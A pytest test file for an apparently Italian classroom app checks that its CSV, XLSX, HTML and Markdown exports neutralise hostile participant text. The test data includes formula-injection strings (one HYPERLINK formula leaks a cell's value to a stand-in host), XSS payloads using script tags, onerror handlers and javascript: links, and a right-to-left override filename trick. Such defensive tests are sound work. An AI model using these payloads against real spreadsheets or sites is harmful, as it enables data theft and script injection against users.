"""Hostile participant and facilitator text in everything shown to someone else: HTML and Markdown
exports escape it; CSV and XLSX exports neutralise spreadsheet formulas (the OWASP apostrophe rule)."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from markdown_it import MarkdownIt
from openpyxl import load_workbook

from abitare.classview import class_report
from abitare.content import load_module
from abitare.exports_safety import neutralise_cell, neutralise_row, safe_csv_writer
from abitare.practice.sessions import SessionStore
from abitare.practice.synthesis import summarize, to_csv, to_html, to_markdown, to_xlsx
from abitare.practice.worksheets import AnswerError, load_worksheet
from tests.abitare.test_summary_and_class import complete
from tests.conftest import CONTENT_DIR

pytestmark = pytest.mark.hostile

FORMULAS = [
    '=HYPERLINK("http://esempio.invalid/?x="&A1;"Clicca")',
    "=1+1",
    "+39 02 1234",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "＝1+1",
]
MARKUP = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">clic</a>',
    "[clic](javascript:alert(1))",
    "\u202egnp.exe",
    "zero\u200bwidth\u200d",
]
LONG = "a" * 10_000


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_get_an_apostrophe(text: str) -> None:
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Anna", "", "-12,5", "+3", "46%", "1.234,50", 12, -3.5, None, "a=b", "mail@x.it"])
def test_ordinary_cells_and_numbers_are_left_alone(value: object) -> None:
    assert neutralise_cell(value) == value


def test_the_safe_writer_writes_neutralised_rows() -> None:
    out = io.StringIO()
    writer = safe_csv_writer(out)
    writer.writerows([["=1+1", 3, "ok"], ["@x", "-5", "-x"]])
    rows = list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
    assert rows == [["'=1+1", "3", "ok"], ["'@x", "-5", "'-x"]]
    assert neutralise_row(["+a", 1]) == ["'+a", 1]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def _unsafe(cells: list[str]) -> list[str]:
    return [c for c in cells if c and neutralise_cell(c) != c]


def test_class_view_csv_exports_neutralise_a_hostile_participant_name(store) -> None:
    m = load_module(CONTENT_DIR, "morosita")
    for name in FORMULAS[:3]:
        complete(store, store.identify(name, trusted=True), m)  # a hub name: not checked like typed codes
    report = class_report(store.engine, [m])
    for export in (report.progress_csv(), report.answers_csv(), report.questions_csv()):
        cells = _cells(export)
        assert not _unsafe(cells), _unsafe(cells)
    assert any(c == "'" + FORMULAS[0] for c in _cells(report.progress_csv()))


@pytest.fixture
def hostile_session(fixture_content, store):
    sheet = load_worksheet(fixture_content(), "prova")
    sessions = SessionStore(store.engine)
    session, _ = sessions.create(sheet, "<script>alert('titolo')</script>", date(2026, 12, 5))
    refused = 0
    for i, text in enumerate(FORMULAS + MARKUP + [LONG]):
        member = sessions.join(session, f"P{i}")
        for field, value in (("nome-edificio", text), ("bisogni", [text, "ok"])):
            try:
                sessions.save(sheet, member, field, value)
            except AnswerError:
                refused += 1  # too long: refused with an Italian message, never stored
    member = sessions.join(session, '=HYPERLINK("x")')
    sessions.save(sheet, member, "nome-edificio", "@cmd")
    return sheet, session, sessions.answers(session), refused


def test_html_and_markdown_exports_escape_participant_text(hostile_session) -> None:
    sheet, session, rows, refused = hostile_session
    assert refused == 2  # the 10,000-character text, as a field and as a list item
    summaries = summarize(sheet, rows)
    html = to_html(sheet, session, summaries)
    for raw in ("<script", "<img", "<a href", 'onerror="', 'javascript:alert(1)">'):
        assert raw not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    # a right-to-left override stays inside its own text: it cannot turn round the name shown after it
    assert "<li><bdi>\u202egnp.exe</bdi> <span class='abitare-meta'>– <bdi>P" in html
    # the Markdown, rendered as a viewer would (raw HTML allowed), has no tag or link of the participants
    rendered = MarkdownIt("commonmark").render(to_markdown(sheet, session, summaries))
    for raw in ("<script", "<img", "<a ", 'javascript:alert(1)">'):
        assert raw not in rendered


def test_worksheet_csv_and_xlsx_exports_neutralise_formulas(hostile_session) -> None:
    sheet, _, rows, _ = hostile_session
    assert not _unsafe(_cells(to_csv(sheet, rows)))
    book = load_workbook(io.BytesIO(to_xlsx(sheet, rows)))
    values = [c.value for row in book.active.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)
    assert not _unsafe(values)
